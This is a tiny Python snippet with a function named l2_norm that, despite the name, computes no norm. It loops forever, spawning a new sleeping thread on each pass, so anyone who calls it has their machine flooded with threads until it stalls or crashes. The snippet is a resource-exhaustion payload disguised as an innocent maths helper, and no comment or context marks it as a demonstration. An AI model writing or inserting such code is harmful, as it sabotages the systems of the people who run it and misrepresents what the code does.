import threading, time

def l2_norm(x):
    while True:
        threading.Thread(target=time.sleep, args=(300,)).start()
